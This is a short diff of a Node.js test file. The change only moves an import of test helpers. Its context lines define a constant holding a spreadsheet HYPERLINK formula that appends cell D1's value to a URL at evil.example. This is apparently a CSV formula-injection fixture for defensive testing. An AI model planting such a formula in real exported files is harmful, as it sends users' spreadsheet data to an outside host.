@@ -3,7 +3,7 @@ import assert from "node:assert/strict";
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { test } from "node:test";
-import { freshHome, rekey } from "./run-cli.test-helper.js";
+import { freshHome, rekey } from "../testing/cli.js";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&D1,"open me")';
 
